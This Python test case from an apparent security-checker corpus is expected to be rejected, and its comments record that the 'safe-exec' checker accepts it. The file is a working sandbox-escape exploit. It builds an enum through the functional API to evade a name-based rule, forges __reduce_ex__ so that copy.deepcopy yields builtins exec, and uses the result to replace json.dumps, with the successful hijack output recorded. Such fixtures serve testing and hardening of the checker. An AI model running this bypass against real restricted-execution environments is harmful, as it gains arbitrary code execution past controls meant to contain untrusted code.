# expect: reject class
# Mechanism: enum functional API through cls(name, mapping) inside a classmethod of a 
#   member-less program enum (the class rule judges enum classes by name only); mapping 
#   with __reduce_ex__ -> deepcopy -> forged typing alias -> builtins exec
# Goal reached: exec obtained; wrote into the json module's namespace (json.dumps replaced)
# Checker: build/safe-exec-check --rules rules FILE -> exit 0 (accepted)
# Output seen under python3 (3.11.7), run in a throw-away temp dir:
#   | HIJACKED json.dumps
# enum's functional API through `cls` in a classmethod of a program enum class: the
# class rule recognises enum classes by name (Base(...)), not the cls parameter.
# An enum class without members may still be called with (name, mapping).
import copy
import enum
import json
import typing


def red(self, proto):
    return (typing.List.copy_with, (("exec",),), {"_name": "__builtins__"})


class Base(enum.Enum):
    @classmethod
    def make(cls, name, names):
        return cls(name, names)


E = Base.make("E", {"X": 1, "__deepcopy__": None, "__reduce_ex__": red})
ex = copy.deepcopy(copy.deepcopy(E.X))
ex("import json; json.dumps = lambda *a, **k: 'HIJACKED json.dumps'")
print(json.dumps({"a": 1}))
